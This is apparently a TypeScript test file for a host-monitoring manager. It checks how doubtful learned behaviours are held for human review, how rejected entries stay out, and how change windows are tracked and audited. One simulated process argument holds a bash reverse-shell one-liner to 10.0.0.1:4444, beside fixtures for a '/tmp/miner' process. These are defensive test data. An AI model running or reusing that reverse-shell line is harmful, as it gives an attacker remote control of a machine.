// Changes and held entries through the API: what is admitted is told, counted and held; what a person decides enters manifests
// or never does; and a restart forgets none of it.
import assert from 'node:assert/strict';
import { afterEach, beforeEach, suite, test } from 'node:test';
import { connect, type Client } from '../../client/connect.ts';
import type { ChangeWindow } from '../../model/change.ts';
import type { Activity } from '../../model/observation.ts';
import { at, findingOf, observed, runningVm, started, vmId } from '../../sim/simulated-activity.ts';
import { makeSimulatedSentinel, type SimulatedSentinel } from '../../sim/simulated-sentinel.ts';
import { must, startTrial, until, type Trial } from '../trial.ts';

const web = { scope: 'shop', service: 'web' } as const;
const full = { observedSeconds: 600, lossSeconds: 0, missed: 0 };

suite('changes and held entries', () => {
  let trial: Trial;
  let client: Client;
  let sentinel: SimulatedSentinel;
  beforeEach(async () => {
    trial = await startTrial();
    client = connect({ ...trial.manager, by: 'alice' });
    sentinel = makeSimulatedSentinel('host1', trial.manager.trust, () => at(0));
    trial.manager.attachSentinel(sentinel);
    await deliver({ vms: [runningVm(1, 'web1'), runningVm(2, 'web2')] });
    must(await client.createScope({ name: 'shop' }));
    must(await client.createService({ scope: 'shop', name: 'web' }));
    must(await client.addMember({ ...web, vm: 'web1' }));
    must(await client.addMember({ ...web, vm: 'web2' }));
  });
  afterEach(async () => await trial.end());

  async function deliver(parts: Parameters<SimulatedSentinel['batch']>[0]): Promise<void> {
    must(await trial.manager.end.deliver(sentinel.batch(parts)));
  }

  const attack = started(vmId(1), '/tmp/miner', ['miner'], 2);
  const learn = async (...more: readonly Activity[]): Promise<void> => {
    const items = [started(vmId(1), '/usr/bin/ls', ['ls'], 1), ...more].map((activity) => observed(activity));
    await deliver({ observed: [{ vm: vmId(1), items }], coverage: [{ vm: vmId(1), ...full }] });
  };
  const detecting = async (): Promise<void> => {
    await learn();
    must(await client.setMode({ scope: 'shop', mode: 'detect' }));
  };
  const allowed = async (vm = 'web1'): Promise<string[]> =>
    must(await client.getManifest({ vm })).manifest.entries.map(({ behaviour }) => behaviour.exe);
  const admit = async (change: string, exe: string, risk = 60): Promise<void> => {
    const finding = { ...findingOf(started(vmId(1), exe, [exe], 9), 'g'), risk };
    await deliver({ admitted: [{ change, finding, count: 3, lastAt: at(9) }] });
  };

  test('what looks like an attack waits, protect says so, and a person takes it in or keeps it out', async () => {
    await learn(attack, started(vmId(1), '/dev/shm/x', ['x'], 3));
    const change = must(await client.setMode({ scope: 'shop', mode: 'protect' }));
    assert.equal(change.services[0]?.completeness.held, 2);
    assert.ok(change.notes.some((note) => /2 of the learned entries are doubtful/.test(note)));
    assert.deepEqual(await allowed(), ['/usr/bin/ls']);
    const held = must(await client.listHeld({ scope: 'shop' }));
    assert.deepEqual(held.map(({ behaviour, source }) => `${source} ${behaviour.exe}`).sort(), [
      'capture /dev/shm/x',
      'capture /tmp/miner',
    ]);
    const [first, second] = held;
    assert.ok(first !== undefined && second !== undefined);
    must(await client.decideHeld({ ...web, entries: [first.id], verdict: 'accepted' }));
    const reading = must(await client.getManifest({ vm: 'web1' })).manifest;
    assert.deepEqual(reading.entries.find(({ id }) => id === first.id)?.provenance.by, 'alice');
    must(await client.decideHeld({ ...web, entries: [second.id], verdict: 'rejected' }));
    assert.deepEqual(must(await client.listHeld({ ...web })), []);
    assert.equal(must(await client.listHeld({ ...web, decided: true })).length, 2);
    assert.ok(!(await allowed()).includes(second.behaviour.exe));
    assert.ok(
      must(await client.listAudit({})).items.some(({ verb, by }) => verb === 'entries.accept' && by === 'alice'),
    );
  });

  test('what somebody kept out stays out however often it is learned again', async () => {
    const tool = started(vmId(1), '/usr/bin/odd', ['odd', 'bash -i >& /dev/tcp/10.0.0.1/4444'], 4);
    await learn(tool);
    const [held] = must(await client.listHeld({ ...web }));
    assert.ok(held !== undefined);
    must(await client.decideHeld({ ...web, entries: [held.id], verdict: 'rejected' }));
    for (let i = 0; i < 5; i += 1) await learn(tool);
    must(await client.setMode({ scope: 'shop', mode: 'detect' }));
    assert.deepEqual(await allowed(), ['/usr/bin/ls']);
  });

  test('what only a member does that is unlike the others is not pooled, and waits', async () => {
    await deliver({ vms: [1, 2, 3].map((n) => runningVm(n, `web${n}`)) });
    must(await client.addMember({ ...web, vm: 'web3' }));
    const shows = (n: number, names: readonly string[]) => ({
      vm: vmId(n),
      items: names.map((name, i) => observed(started(vmId(n), `/usr/bin/${name}`, [name], i), 5)),
    });
    const alike = ['a', 'b', 'c'];
    await deliver({
      observed: [shows(1, alike), shows(2, alike), shows(3, ['x', 'y', 'z', 'w'])],
      coverage: [1, 2, 3].map((n) => ({ vm: vmId(n), ...full })),
    });
    const change = must(await client.setMode({ scope: 'shop', mode: 'detect' }));
    assert.ok(change.notes.some((note) => note.includes(`member ${vmId(3)} differs from the others by 100 %`)));
    for (const vm of ['web1', 'web3'])
      assert.deepEqual((await allowed(vm)).sort(), ['/usr/bin/a', '/usr/bin/b', '/usr/bin/c']);
    const held = must(await client.listHeld({ ...web }));
    assert.deepEqual(
      held.map(({ behaviour }) => behaviour.exe).sort(),
      ['w', 'x', 'y', 'z'].map((name) => `/usr/bin/${name}`),
    );
    assert.match(held[0]?.why ?? '', /differs from its fellow members/);
  });

  test('only what waits can be decided about', async () => {
    const unknown = await client.decideHeld({ ...web, entries: ['nothing'], verdict: 'accepted' });
    assert.ok(!unknown.ok && unknown.error.kind === 'not-found');
  });

  test('a declared change travels in the manifests of its members, is closed, and survives a restart', async () => {
    await detecting();
    const opened = must(await client.openChange({ ...web, vm: 'web2', packages: ['nginx'], minutes: 30 }));
    assert.ok(opened.open);
    assert.deepEqual(
      opened.members.map(({ name }) => name),
      ['web2'],
    );
    const windowsOf = async (vm: string) => must(await client.getManifest({ vm })).manifest.changes;
    assert.deepEqual(await windowsOf('web1'), undefined);
    assert.deepEqual(
      (await windowsOf('web2'))?.map(({ id, packages }) => [id, packages]),
      [[opened.id, ['nginx']]],
    );
    await until('it was installed', () => sentinel.manifests.get(vmId(2))?.changes?.length === 1);
    assert.deepEqual(
      must(await client.getVm({ vm: 'web2' })).changes.map(({ id }) => id),
      [opened.id],
    );
    assert.equal(must(await client.status()).changesOpen, 1);
    client = connect({ ...(await trial.restart()), by: 'alice' });
    assert.ok(must(await client.listChanges({ open: true })).some(({ id }) => id === opened.id));
    const closed = must(await client.closeChange({ change: opened.id }));
    assert.deepEqual([closed.open, closed.closed?.by], [false, 'alice']);
    assert.equal(await windowsOf('web2'), undefined);
    const again = await client.closeChange({ change: opened.id });
    assert.ok(!again.ok && again.error.kind === 'refused');
  });

  test('a change of nothing, of a stranger and beyond the limit is refused', async () => {
    const nothing = await client.openChange({ ...web, minutes: 5 });
    assert.ok(!nothing.ok && /brings packages or programs/.test(nothing.error.message));
    await deliver({ vms: [runningVm(1, 'web1'), runningVm(2, 'web2'), runningVm(3, 'other')] });
    const stranger = await client.openChange({ ...web, vm: 'other', packages: ['x'], minutes: 5 });
    assert.ok(!stranger.ok && /no member of shop\/web/.test(stranger.error.message));
    const forever = await client.openChange({ ...web, packages: ['x'], minutes: 100_000 });
    assert.ok(!forever.ok && forever.error.kind === 'usage');
    for (let i = 0; i < 16; i += 1) must(await client.openChange({ ...web, packages: ['x'], minutes: 5 }));
    const more = await client.openChange({ ...web, packages: ['x'], minutes: 5 });
    assert.ok(!more.ok && /which is the limit/.test(more.error.message));
  });

  test('what a change admitted is counted with its risk, waits, and is named by a later alarm', async () => {
    await detecting();
    const { id } = must(await client.openChange({ ...web, packages: ['nginx'], minutes: 30 }));
    await admit(id, '/usr/sbin/nginx', 45);
    await admit(id, '/usr/sbin/nginx', 55);
    await admit(id, '/usr/sbin/nginx-helper', 10);
    const [change] = must(await client.listChanges());
    assert.deepEqual(change?.admitted, { behaviours: 2, times: 9, waiting: 2, notKept: 0, risk: 55 });
    assert.ok(!(await allowed()).includes('/usr/sbin/nginx'), 'it entered the manifest by itself');
    const held = must(await client.listHeld({ ...web }));
    assert.deepEqual(
      held.map(({ behaviour, risk, change: by }) => [behaviour.exe, risk, by]),
      [
        ['/usr/sbin/nginx', 55, id],
        ['/usr/sbin/nginx-helper', 10, id],
      ],
    );
    await deliver({ findings: [findingOf(started(vmId(1), '/usr/sbin/nginx', ['/usr/sbin/nginx'], 99), 'later')] });
    const [alarm] = must(await client.listAlarms()).items;
    const detail = must(await client.getAlarm({ alarm: alarm?.id ?? '' }));
    assert.deepEqual(
      detail.changes.map(({ id: by }) => by),
      [id],
    );
    must(await client.decideHeld({ ...web, entries: held.map((entry) => entry.id), verdict: 'accepted' }));
    assert.ok((await allowed('web2')).includes('/usr/sbin/nginx'));
    assert.equal(must(await client.listChanges())[0]?.admitted.waiting, 0);
  });

  test('an observed change is told in the audit log, goes on with each installation, and cannot be closed', async () => {
    await detecting();
    const window: ChangeWindow = {
      id: 'o1',
      cause: 'observed',
      packages: ['jq'],
      programs: [],
      ports: [],
      starter: '/usr/bin/apt-get',
      from: at(0),
      until: at(600),
    };
    await deliver({ changes: [{ vm: vmId(1), window }] });
    await deliver({
      changes: [{ vm: vmId(1), window: { ...window, packages: ['curl'], from: at(60), until: at(660) } }],
    });
    const [change, ...more] = must(await client.listChanges({ vm: 'web1' }));
    assert.equal(more.length, 0);
    assert.deepEqual([change?.packages, change?.from, change?.until], [['jq', 'curl'], at(0), at(660)]);
    assert.deepEqual(must(await client.listChanges({ vm: 'web2' })), []);
    assert.equal(must(await client.getManifest({ vm: 'web1' })).manifest.changes, undefined);
    const close = await client.closeChange({ change: 'o1' });
    assert.ok(!close.ok && close.error.kind === 'refused');
    assert.ok(must(await client.listAudit({})).items.some(({ verb }) => verb === 'change.observe'));
  });

  test('what is said to be admitted by a change nobody knows is counted', async () => {
    await detecting();
    await admit('nobody', '/usr/bin/x');
    assert.equal(must(await client.status()).losses.admittedNotKept, 1);
  });
});
